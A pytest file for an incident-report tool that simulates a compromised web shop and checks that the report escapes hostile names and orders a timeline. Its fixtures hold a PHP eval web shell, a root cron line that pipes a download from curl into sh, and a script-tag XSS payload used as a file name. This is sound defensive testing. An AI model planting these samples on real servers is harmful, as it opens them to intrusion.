"""The incident report from a small bundle: one self-contained HTML file (no script, no
external fetch) where hostile names stay text, and a timeline whose events are the
bundle's dated facts in order."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from vpsrescue.bundle import Bundle
from vpsrescue.report.cli import run
from vpsrescue.report.timeline import line_time

from .restore_bundle import make_bundle

pytestmark = pytest.mark.unit

VOID = {"meta", "br", "hr", "img", "input", "link", "circle", "line"}
EXTERNAL = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:|//)", re.I)


class Strict(HTMLParser):
    """Collects tags and attributes; notes any end tag that does not close the open one."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str]] = []
        self.errors: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += [(k, v or "") for k, v in attrs]
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += [(k, v or "") for k, v in attrs]

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Strict:
    p = Strict()
    p.feed(html)
    p.close()
    return p


def assert_self_contained(html: str) -> Strict:
    p = parse(html)
    assert p.errors == [] and p.stack == [], (p.errors, p.stack)
    assert not p.tags & {"script", "link", "iframe", "img", "object", "embed", "base"}
    fetching = [(k, v) for k, v in p.attrs
                if k in ("src", "href", "xlink:href", "action", "srcset", "background")
                and EXTERNAL.match(v)]
    assert fetching == []
    assert not re.search(r"url\(\s*['\"]?(?:https?:)?//", html) and "@import" not in html
    return p


EVIL_DIR = "/var/www/shop/wp-content/uploads/<script>alert(1)<"
EVIL = EVIL_DIR + "/script>.php"


def _finding(kind: str, severity: str, path: str, title: str, **extra: Any) -> dict[str, Any]:
    return {"check": "t", "kind": kind, "severity": severity, "path": path, "title": title,
            "evidence": "", "quarantine": severity in ("critical", "high"), "extra": extra}


def incident(tmp: Path) -> Bundle:
    """Three planted files with their old-disk times, an access log with the shell's
    requests, an intruder's account: dated facts in a known order."""
    log = (b'203.0.113.9 - - [11/Mar/2024:03:17:00 +0800] "POST /up/x.php HTTP/1.1" 200 1\n'
           b'198.51.100.1 - - [11/Mar/2024:05:00:00 +0800] "GET / HTTP/1.1" 200 1\n'
           b'203.0.113.9 - - [12/Mar/2024:09:00:00 +0000] "POST /up/x.php HTTP/1.1" 200 1\n')
    tree: dict[bytes, Any] = {EVIL.encode(): b"<?php eval($_POST[1]);\n",
                              b"/etc/cron.d/update": b"* * * * * root curl x|sh\n",
                              b"/var/log/apache2/shop-access.log": log,
                              b"/var/www/shop/index.php": b"<?php\n"}
    mtimes = {EVIL.encode(): 1710126000,             # 2024-03-11 03:00:00 UTC
              b"/etc/cron.d/update": 1710300000,     # 2024-03-13 03:20:00 UTC
              b"/var/www/shop/index.php": 1500000000,  # genuine, old: no finding
              b"/var/log/apache2/shop-access.log": 1710400000}
    findings = [
        _finding("webshell", "critical", EVIL, "PHP file in uploads: <script>alert(1)</script>"),
        _finding("cron", "critical", "/etc/cron.d/update", "cron job downloads and runs code"),
        _finding("log", "high", "/var/log/apache2/shop-access.log",
                 "POST requests to /up/x.php", url="/up/x.php", count=2),
        _finding("wp_admin", "high", "", "administrator <i>evil</i>", login="evil<1>",
                 registered="2024-03-12 08:03:00", roles=["administrator"]),
        _finding("webshell", "low", "/var/www/shop/index.php", "low: not dated"),
    ]
    return make_bundle(tmp, [{"root": "/var/www/shop", "server_names": ["shop.example"]}],
                       findings, tree=tree, mtimes=mtimes)


def test_the_report_is_one_self_contained_file_and_hostile_names_stay_text(
        tmp_path: Path) -> None:
    b = incident(tmp_path)
    run(bundle=str(b.path))
    html = (b.path / "report.html").read_text()
    p = assert_self_contained(html)
    text = "".join(p.text)
    assert "PHP file in uploads: <script>alert(1)</script>" in text  # shown, as text
    assert EVIL in text and "evil<1>" in text
    assert "svg" in p.tags and "circle" in p.tags  # the timeline is a picture
    md = (b.path / "report.md").read_text()
    assert not re.search(r"(?<!\\)<(?:script|i>)", md)
    assert json.loads((b.path / "report.json").read_text())["counts"]["critical"] == 2


def test_the_timeline_holds_the_dated_facts_in_order(tmp_path: Path) -> None:
    b = incident(tmp_path)
    run(bundle=str(b.path))
    tl = json.loads((b.path / "report.json").read_text())["timeline"]
    got = [(e["at"], e["source"]) for e in tl]
    assert got == [("2024-03-10 19:17:00Z", "log"),   # 03:17 at +08:00
                   ("2024-03-11 03:00:00Z", "file"),
                   ("2024-03-12 08:03:00Z", "account"),
                   ("2024-03-12 09:00:00Z", "log"),
                   ("2024-03-13 03:20:00Z", "cron")]
    svg = json.loads((b.path / "report.json").read_text())["timeline_svg"]
    assert svg.count("<circle") == len(tl)


def test_not_yet_where_a_step_has_not_run(tmp_path: Path) -> None:
    b = incident(tmp_path)
    run(bundle=str(b.path))
    html = (b.path / "report.html").read_text()
    for step in ("fab restore", "fab verify", "fab audit", "fab tls"):
        assert f"not yet: {step} has not run" in html


@pytest.mark.parametrize("line,want", [
    (b"Mar 11 03:12:05 vps sshd[1]: Accepted password", "2024-03-11 03:12:05"),
    (b'1.2.3.4 - - [01/Feb/2024:23:30:00 -0130] "GET /"', "2024-02-02 01:00:00"),
    (b"2024-03-11T03:00:00+00:00 host kernel: x", "2024-03-11 03:00:00"),
    (b"no time here", None)])
def test_log_times(line: bytes, want: str | None) -> None:
    from datetime import UTC, datetime
    t = line_time(line, 2024)
    assert (None if t is None else datetime.fromtimestamp(t, UTC).strftime(
        "%Y-%m-%d %H:%M:%S")) == want


def test_what_restore_changed_is_in_the_report(tmp_path: Path) -> None:
    b = incident(tmp_path)
    changes = ["shop.example: locked evil<1> (no role, no way in)",
               "shop.example: users_can_register closed"]
    b.write_journal("restore", {"host": "new-vps", "release": "bookworm",
                                "restored": "2026-01-01T00:00:00Z", "accounts": changes,
                                "account_decisions": {"shop.example": [
                                    {"login": "evil<1>", "decision": "lock", "why": "planted"}]}})
    run(bundle=str(b.path))
    text = "".join(parse((b.path / "report.html").read_text()).text)
    assert all(c in text for c in changes) and "not yet: fab restore" not in text
    assert json.loads((b.path / "report.json").read_text())["restore"]["locked"] == [
        {"site": "shop.example", "login": "evil<1>", "why": "planted"}]
